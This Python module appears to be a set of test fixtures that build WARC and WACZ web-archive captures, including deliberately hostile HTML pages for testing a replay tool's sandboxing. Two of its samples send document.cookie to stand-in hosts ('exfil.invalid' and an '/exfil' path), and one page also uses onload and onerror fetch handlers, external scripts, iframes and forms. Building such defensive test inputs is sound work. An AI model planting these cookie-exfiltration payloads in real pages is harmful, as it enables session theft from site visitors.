"""Web captures made at run time, offline: WARCs written with warcio, WACZ packages zipped
by hand following WACZ 1.1.1 (datapackage.json, datapackage-digest.json, pages, index)."""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import zipfile

from warcio.statusandheaders import StatusAndHeaders
from warcio.warcwriter import WARCWriter

SCRIPT_PAGE = (
    b"<!DOCTYPE html><html><head><title>Market</title></head><body>"
    b"<script>fetch('http://exfil.invalid/?c='+document.cookie)</script>"
    b"<p>Shelling at the market</p></body></html>"
)
PAGES = [
    ("http://news.example/market", "2016-04-27T10:15:00Z", "Market <b>shelled</b>"),
    ("http://news.example/hospital", "2016-04-27T11:00:00Z", "Hospital"),
]


def warc_bytes(gzip_records: bool = True, pages=PAGES, body: bytes = SCRIPT_PAGE) -> bytes:
    """A warcinfo record, then a request and a response per page (per-record gzip or plain)."""
    out = io.BytesIO()
    writer = WARCWriter(out, gzip=gzip_records)
    writer.write_record(writer.create_warcinfo_record("capture.warc", {"software": "tests"}))
    for url, _, _ in pages:
        headers = StatusAndHeaders(
            "200 OK", [("Content-Type", "text/html; charset=utf-8")], protocol="HTTP/1.1"
        )
        writer.write_record(
            writer.create_warc_record(
                url, "response", payload=io.BytesIO(body), http_headers=headers
            )
        )
    return out.getvalue()


def whole_file_gzip_warc() -> bytes:
    """Every record inside one gzip stream (what `gzip capture.warc` makes)."""
    return gzip.compress(warc_bytes(gzip_records=False))


def pages_jsonl(pages=PAGES) -> bytes:
    lines = [{"format": "json-pages-1.0", "id": "pages", "title": "All Pages"}]
    lines += [{"id": str(i), "url": u, "ts": ts, "title": t} for i, (u, ts, t) in enumerate(pages)]
    return b"".join(json.dumps(line).encode() + b"\n" for line in lines)


def cdxj(pages=PAGES) -> bytes:
    return b"".join(f"{u} 20160427101500 {{}}\n".encode() for u, _, _ in pages)


def wacz_members(warc: bytes | None = None) -> dict[str, bytes]:
    return {
        "archive/data.warc.gz": warc if warc is not None else warc_bytes(),
        "indexes/index.cdxj": cdxj(),
        "pages/pages.jsonl": pages_jsonl(),
    }


def datapackage(members: dict[str, bytes], edit=None) -> bytes:
    resources = [
        {
            "name": path.rsplit("/", 1)[-1],
            "path": path,
            "hash": "sha256:" + hashlib.sha256(data).hexdigest(),
            "bytes": len(data),
        }
        for path, data in members.items()
    ]
    document = {
        "profile": "data-package",
        "wacz_version": "1.1.1",
        "created": "2016-04-27T12:00:00Z",
        "software": "custos tests",
        "resources": resources,
    }
    if edit is not None:
        edit(document)
    return json.dumps(document, indent=2).encode()


def digest_of(datapackage_json: bytes, sign=None) -> bytes:
    """datapackage-digest.json; `sign(hash)` may return its signedData (WACZ signing)."""
    document = {
        "path": "datapackage.json",
        "hash": "sha256:" + hashlib.sha256(datapackage_json).hexdigest(),
    }
    if sign is not None:
        document["signedData"] = sign(document["hash"])
    return json.dumps(document).encode()


def wacz_bytes(
    members: dict[str, bytes] | None = None,
    declared: dict[str, bytes] | None = None,
    extra: dict[str, bytes] | None = None,
    drop: tuple[str, ...] = (),
    compression: int = zipfile.ZIP_STORED,
    edit=None,
    sign=None,
) -> bytes:
    """A WACZ: `declared` (default: `members`) is what datapackage.json describes; `extra`
    members are added after it is made; `drop` names files left out of the zip; `edit` may
    change the datapackage document before it is written (its digest follows it)."""
    members = dict(members if members is not None else wacz_members())
    package = datapackage(declared if declared is not None else members, edit)
    files = {
        **members,
        "datapackage.json": package,
        "datapackage-digest.json": digest_of(package, sign),
    }
    files.update(extra or {})
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for path, data in files.items():
            if path not in drop:
                archive.writestr(path, data)
    return out.getvalue()


def hostile_page(other_origin: str) -> bytes:
    """A page whose author tries every way to run code or call out to `other_origin`."""
    return (
        "<!DOCTYPE html><html><head><title>Checkpoint &amp; road</title>"
        f"<link rel=stylesheet href='{other_origin}/style.css'>"
        f"<style>body {{ background: url('{other_origin}/bg.png') }}</style>"
        f"<script src='{other_origin}/lib.js'></script></head>"
        f"<body onload=\"fetch('{other_origin}/onload')\">"
        f"<script>fetch('{other_origin}/exfil?c='+document.cookie);"
        "document.title='PWNED';</script>"
        "<h1>Checkpoint closed</h1><p>Soldiers stopped the <b>convoy</b> at dawn.</p>"
        f"<img src='{other_origin}/pixel.png' onerror=\"fetch('{other_origin}/onerror')\">"
        f"<a href='{other_origin}/more'>more</a>"
        f"<iframe src='{other_origin}/frame'></iframe>"
        f"<form action='{other_origin}/post'><input name=q></form>"
        f"<svg><image href='{other_origin}/svg.png'/></svg>"
        "</body></html>"
    ).encode()


def png_bytes(width: int = 40, height: int = 30) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (width, height), (200, 30, 30)).save(out, "PNG")
    return out.getvalue()


def hostile_capture(other_origin: str, url: str = "http://news.example/checkpoint") -> bytes:
    """A WACZ of one hostile page with a screenshot record (urn:view:, as Browsertrix makes)."""
    out = io.BytesIO()
    writer = WARCWriter(out, gzip=True)
    writer.write_record(writer.create_warcinfo_record("capture.warc", {"software": "tests"}))
    headers = StatusAndHeaders(
        "200 OK", [("Content-Type", "text/html; charset=utf-8")], protocol="HTTP/1.1"
    )
    writer.write_record(
        writer.create_warc_record(
            url, "response", payload=io.BytesIO(hostile_page(other_origin)), http_headers=headers
        )
    )
    writer.write_record(
        writer.create_warc_record(
            "urn:view:" + url,
            "resource",
            payload=io.BytesIO(png_bytes()),
            warc_content_type="image/png",
        )
    )
    pages = [(url, "2026-03-01T08:00:00Z", "Checkpoint")]
    members = {
        "archive/data.warc.gz": out.getvalue(),
        "indexes/index.cdxj": cdxj(pages),
        "pages/pages.jsonl": pages_jsonl(pages),
    }
    return wacz_bytes(members)
